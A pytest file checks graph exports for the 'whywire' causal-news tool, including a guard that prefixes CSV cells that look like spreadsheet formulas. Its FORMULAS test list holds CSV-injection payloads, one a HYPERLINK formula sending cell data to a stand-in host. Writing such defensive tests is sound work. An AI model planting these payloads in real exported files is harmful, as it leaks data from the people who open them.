"""Every format in a program that reads it: nothing is lost on the way, whatever the words."""

from __future__ import annotations

import csv
import json
import os
import subprocess
import sys
from dataclasses import replace
from io import StringIO
from pathlib import Path

import networkx as nx
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from made_up_week import HEBREW_TITLE, HOSTILE_TITLE
from small_graphs import small_graphs

from whywire.elements import Event, HeadlineEvidence, Link, LinkKind, Order
from whywire.graph.causal_graph import CausalGraph
from whywire.graph.codec import event_rows, link_rows
from whywire.graph.exports import TEXT_FORMATS, graph_csv, graph_cytoscape, graph_graphml, graph_json
from whywire.graph.exports.illegal_characters import plain_text
from whywire.graph.exports.networkx_formats import to_networkx
from whywire.news.article import Article
from whywire.news.language import Language

HERE = Path(__file__).parent
PRINT_ALL = """
import hashlib, sys
sys.path.insert(0, sys.argv[1])
from made_up_week import made_up_graph
from whywire.graph.exports import TEXT_FORMATS, graph_csv
graph = made_up_graph()
texts = {name: write(graph) for name, write in TEXT_FORMATS.items()}
for name, text in (texts | {"csv": str(graph_csv(graph))}).items():
    print(name, hashlib.sha256(text.encode()).hexdigest())
"""


def with_title(title: str) -> CausalGraph:
    return CausalGraph({"a": Article("a", title)}, (Event("e", title, Language.OTHER, None, None, ("a",)),), (), ())


def test_json_loads_back_as_the_graph(graph: CausalGraph) -> None:
    loaded = nx.node_link_graph(json.loads(graph_json(graph)), edges="links")
    assert nx.utils.graphs_equal(loaded, to_networkx(graph))


def test_graphml_loads_back_with_events_links_and_numbers(graph: CausalGraph) -> None:
    loaded = nx.parse_graphml(graph_graphml(graph))
    assert (loaded.number_of_nodes(), loaded.number_of_edges()) == (len(graph.events), len(graph.links))
    titles = {title for _, title in loaded.nodes(data="title")}
    assert {HOSTILE_TITLE, HEBREW_TITLE} <= titles
    assert 'Line\nbreak, "quotes" and a control\ufffdcharacter' in titles
    edge = loaded.edges["e1", "e2"]
    assert (edge["strength"], edge["kind"]) == (92.0, "causes")
    for event in graph.events:
        assert loaded.nodes[event.id]["label"] == loaded.nodes[event.id]["title"]
    for *_, drawn in loaded.edges(data=True):
        assert (drawn["weight"], drawn["label"]) == (drawn["strength"], drawn["kind"])
    assert json.loads(edge["evidence"])[0]["quote"].startswith("The embankment")
    assert json.loads(loaded.nodes["e2"]["articles"]) == ["e2-1", "e2-2", "e2-3", "e2-4"]


@settings(deadline=None, max_examples=25)
@given(small_graphs())
def test_cytoscape_json_loads_back_as_the_graph(graph: CausalGraph) -> None:
    loaded = nx.cytoscape_graph(json.loads(graph_cytoscape(graph)))
    events = dict(loaded.nodes(data=True))
    assert list(events) == [event.id for event in graph.events]
    for row in event_rows(graph):
        assert {name: value for name, value in row.items() if value is not None}.items() <= events[row["id"]].items()
    for row in link_rows(graph):
        edge = loaded.edges[row["source"], row["target"], row["kind"]]
        assert {name: value for name, value in row.items() if value is not None}.items() <= edge.items()
    assert loaded.number_of_edges() == len(graph.links)


@settings(deadline=None, max_examples=25)
@given(small_graphs())
def test_the_csv_tables_hold_every_row(graph: CausalGraph) -> None:
    tables = zip(graph_csv(graph, raw=True), graph_csv(graph), (event_rows(graph), link_rows(graph)), strict=True)
    for raw, table, rows in tables:
        read = rows_of(raw)
        expected = [{name: cell(row.get(name)) for name in found} for found, row in zip(read, rows, strict=True)]
        assert [{name: unpacked(value) for name, value in found.items()} for found in read] == expected
        for found, guarded in zip(read, rows_of(table), strict=True):
            assert all(guarded[name] in (value, f"'{value}") for name, value in found.items())
            assert not any(value.startswith(tuple("=+-@＝＋－＠\t\r\n")) for value in guarded.values())


def rows_of(table: str) -> list[dict[str, str]]:
    return list(csv.DictReader(StringIO(table, newline=""), strict=True))


def cell(value: object) -> object:
    """What a cell is expected to say."""
    if isinstance(value, str):
        return plain_text(value)
    return "" if value is None else value if isinstance(value, list | dict) else str(value)


def unpacked(text: str) -> object:
    """A list or an object from its JSON; odd titles in brackets are none."""
    try:
        value = json.loads(text)
    except ValueError:
        return text
    return value if isinstance(value, list | dict) else text


FORMULAS = [
    '=HYPERLINK("https://harbour.example/?"&A1,"Read on")',
    "@SUM(1)",
    "+1",
    "-1",
    "-Infinity",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
]
HARMLESS = ["Prices up 3 = 2 + 1", "'Quoted' by @mayor", "1-1", "[1]", "—dash", "“=1”", "е", "#1", ""]


def with_words(words: str) -> CausalGraph:
    """Two events with a link between them, whose titles are these words and whose ids begin with them."""
    first, second = ids = f"{words}a", f"{words}b"
    articles = {name: Article(name, words or "-") for name in ids}
    events = tuple(Event(name, words, Language.ENGLISH, None, None, (name,), first) for name in ids)
    evidence = (HeadlineEvidence(first, second, 0.9),)
    link = Link(first, second, LinkKind.CAUSES, 0.9, 80.0, Order.UNKNOWN, evidence, closed_by=second)
    return CausalGraph(articles, events, (link,), ())


@pytest.mark.parametrize("words", FORMULAS)
def test_no_cell_begins_like_a_formula(words: str) -> None:
    (first, second), (link,) = map(rows_of, graph_csv(with_words(words)))
    assert (first["id"], first["title"], first["story"]) == (f"'{words}a", f"'{words}", f"'{words}a")
    assert (second["id"], second["title"], second["story"]) == (f"'{words}b", f"'{words}", f"'{words}a")
    assert (link["source"], link["target"], link["closed_by"]) == (f"'{words}a", f"'{words}b", f"'{words}b")
    assert (link["probability"], link["strength"], link["kind"]) == ("0.9", "80.0", "causes")
    assert json.loads(first["articles"]) == [f"{words}a"]
    assert json.loads(link["evidence"])[0]["source_article"] == f"{words}a"


@pytest.mark.parametrize("words", HARMLESS)
def test_a_cell_that_is_no_formula_stays_as_it_is(words: str) -> None:
    graph = with_words(words)
    assert graph_csv(graph) == graph_csv(graph, raw=True)
    assert [event["title"] for event in rows_of(graph_csv(graph)[0])] == [words] * 2


@pytest.mark.parametrize("words", FORMULAS + HARMLESS)
def test_raw_cells_are_unchanged(words: str) -> None:
    events, (link,) = map(rows_of, graph_csv(with_words(words), raw=True))
    assert [(event["id"], event["title"], event["story"]) for event in events] == [
        (f"{words}{place}", words, f"{words}a") for place in "ab"
    ]
    assert (link["source"], link["target"], link["closed_by"]) == (f"{words}a", f"{words}b", f"{words}b")


def test_the_header_row_is_the_same_either_way(graph: CausalGraph) -> None:
    for table, raw in zip(graph_csv(graph), graph_csv(graph, raw=True), strict=True):
        assert table.split("\r\n")[0] == raw.split("\r\n")[0]
    assert graph_csv(CausalGraph()) == graph_csv(CausalGraph(), raw=True)


def test_exports_are_the_same_bytes_again(graph: CausalGraph) -> None:
    again = replace(graph, articles=dict(sorted(graph.articles.items(), reverse=True)))
    for name in ("cytoscape", "dot", "graphml", "json", "mermaid"):  # the others list the articles, in their order
        assert TEXT_FORMATS[name](again) == TEXT_FORMATS[name](graph)
    assert graph_csv(again) == graph_csv(graph)


def test_exports_do_not_depend_on_how_python_hashes() -> None:
    pytest.importorskip("rdflib")
    printed = [
        subprocess.run(
            [sys.executable, "-c", PRINT_ALL, str(HERE)],
            env=os.environ | {"PYTHONHASHSEED": seed},
            capture_output=True,
            check=True,
        ).stdout
        for seed in ("1", "2")
    ]
    assert printed[0] == printed[1]
    assert len(printed[0].splitlines()) == len(TEXT_FORMATS) + 1


def test_an_empty_graph_exports() -> None:
    pytest.importorskip("rdflib")
    assert nx.parse_graphml(graph_graphml(CausalGraph())).number_of_nodes() == 0
    assert nx.node_link_graph(json.loads(graph_json(CausalGraph())), edges="links").number_of_nodes() == 0
    for write in TEXT_FORMATS.values():
        assert isinstance(write(CausalGraph()), str)
    assert [table.count("\r\n") for table in graph_csv(CausalGraph())] == [1, 1]


def test_every_format_has_evidence_closed_links_and_strength(graph: CausalGraph) -> None:
    pytest.importorskip("rdflib")
    texts = {name: write(graph) for name, write in TEXT_FORMATS.items()} | {"csv": graph_csv(graph)[1]}
    del texts["mermaid"]  # a drawing of titles and strengths
    for name, text in texts.items():
        assert "three days of rain had soaked its clay core" in text, name
        assert "https://coast.example/e2-1" in text, name
        assert "0.91" in text, name
        assert "92.0" in text, name
        assert "closed" in text, name


@settings(deadline=None)
@given(st.text(st.characters(), min_size=1))
def test_no_title_breaks_an_export(title: str) -> None:
    graph = with_title(title)
    loaded = nx.node_link_graph(json.loads(graph_json(graph).encode()), edges="links")
    assert loaded.nodes["e"]["title"] == title
    kept = nx.parse_graphml(graph_graphml(graph).encode().decode()).nodes["e"].get("title", "")
    legal = "".join(letter if letter.isprintable() else " " for letter in title)
    assert len(kept) <= len(title)
    assert all(letter in kept for letter in legal if letter != " ")
